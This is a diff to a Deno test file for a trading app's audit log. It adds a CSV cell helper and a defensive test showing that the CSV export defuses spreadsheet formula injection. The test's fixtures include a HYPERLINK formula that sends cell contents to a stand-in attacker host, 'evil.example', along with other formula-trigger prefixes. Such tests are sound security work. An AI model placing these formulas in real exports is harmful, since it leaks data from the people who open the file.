@@ -160,12 +160,17 @@ function parseCsv(text: string): string[][] {
 }
 
 /** Turns CSV records back into items: empty is null, payload is JSON. */
+/** The stored text of a CSV cell: one leading `'` (added against formulas) removed. */
+function cellText(cell: string): string {
+  return cell.startsWith("'") ? cell.slice(1) : cell;
+}
+
 function csvItems(rows: string[][]): Item[] {
   const [header, ...records] = rows;
   return records.map((r) => {
     const o: Record<string, unknown> = {};
     header!.forEach((k, i) => {
-      const v = r[i]!;
+      const v = cellText(r[i]!);
       o[k] = k === "payload" ? JSON.parse(v) : v === "" ? null : v;
     });
     return o as unknown as Item;
@@ -359,6 +364,57 @@ Deno.test({ name: "audit: the CSV export parses back to the same rows", ...DB_TE
     const empty = await t.as("alice", `${AUDIT}?user=bob`, { headers: { Accept: "text/csv" } });
     assertEquals(parseCsv(await empty.text()).length, 1);
   });
+});
+
+Deno.test({
+  name: "audit: the CSV export neutralises cells a spreadsheet would run as formulas",
+  ...DB_TEST,
+}, async () => {
+  const t = await createTestApp({ trading: true });
+  try {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      "+1+1",
+      "-2-2",
+      "@SUM(1,2)",
+      "\t=1+1",
+      "\r=1+1",
+      "\n=1+1",
+      "\uFF1D1+1",
+      "'=already quoted",
+      "-12.5",
+    ];
+    const ids = [await ensureUser(t, "-1-1", "trader"), await ensureUser(t, "@mallory", "trader")];
+    for (const [i, text] of hostile.entries()) {
+      await append(t, ids[i % 2]!, "trader", {
+        status: text,
+        reason: text,
+        clientOrderId: text,
+        payload: { note: text },
+      });
+    }
+    const json = (await list(t, "carol", "compliance")).items;
+    const res = await t.as("carol", AUDIT, { role: "compliance", headers: { Accept: "text/csv" } });
+    assertEquals(res.status, 200);
+    const raw = await res.text();
+    const rows = parseCsv(raw);
+    assertEquals(rows.length, hostile.length + 1);
+    for (const record of rows.slice(1)) {
+      for (const cell of record) {
+        assert(!/^[=+\-@\t\r\n\uFF1D]/.test(cell), `a live formula cell: ${JSON.stringify(cell)}`);
+      }
+    }
+    // Every cell is quoted; the neutralising quote sits inside the quotes.
+    assertStringIncludes(raw, `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    assertStringIncludes(raw, `"'-1-1"`);
+    assertStringIncludes(raw, `"'@mallory"`);
+    assertStringIncludes(raw, `"''=already quoted"`);
+    // Nothing is lost: one leading quote off gives back exactly what JSON answers.
+    assertEquals(csvItems(rows), json);
+    assertEquals(json.map((i) => i.reason), hostile);
+  } finally {
+    await t.close();
+  }
 });
 
 Deno.test({ name: "audit: a long CSV export streams every row", ...DB_TEST }, async () => {
